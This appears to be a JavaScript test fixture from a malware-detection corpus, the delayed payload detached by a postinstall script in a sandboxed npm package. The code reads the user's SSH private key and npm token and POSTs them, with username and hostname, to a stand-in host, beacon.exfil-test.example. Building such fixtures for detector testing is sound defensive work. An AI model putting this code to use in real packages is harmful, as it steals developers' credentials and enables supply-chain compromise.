'use strict';
// MALICIOUS TEST PACKAGE (pkgtrace corpus): the delayed payload that
// postinstall.js detaches. Run it only inside the sandbox. Reads the SSH
// key and the npm token and POSTs them to https://beacon.exfil-test.example/k
// (in the sandbox: the HTTPS sink). Its stdout is /dev/null, so the steps go
// to /tmp/mal-delayed-daemon.log; /tmp/mal-delayed-daemon.done is written
// last. Exits 0 whatever fails, after 3 s at the latest.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const say = (msg) => { try { fs.appendFileSync('/tmp/mal-delayed-daemon.log', `mal-delayed-daemon: ${msg}\n`); } catch (e) { /* ignore */ } };
const done = () => { try { fs.writeFileSync('/tmp/mal-delayed-daemon.done', 'done\n'); } catch (e) { /* ignore */ } process.exit(0); };
setTimeout(() => { say('gave up after 3 s'); done(); }, 3000).unref();
process.on('uncaughtException', (e) => { say(`error ${e.code || e.message}`); done(); });

const read = (rel) => { try { return fs.readFileSync(path.join(os.homedir(), rel), 'utf8'); } catch (e) { return ''; } };
say(`step 2 payload running as pid ${process.pid}, parent ${process.ppid}`);
const body = JSON.stringify({ who: `${os.userInfo().username}@${os.hostname()}`, ssh: read('.ssh/id_rsa'), npm: read('.npmrc') });
const req = https.request({
  hostname: 'beacon.exfil-test.example', path: '/k', method: 'POST', timeout: 2000,
  headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
}, (res) => {
  res.resume();
  say(`step 3 POST https://beacon.exfil-test.example/k: status ${res.statusCode}`);
  done();
});
req.on('error', (e) => { say(`step 3 POST failed: ${e.code || e.message}`); done(); });
req.end(body);
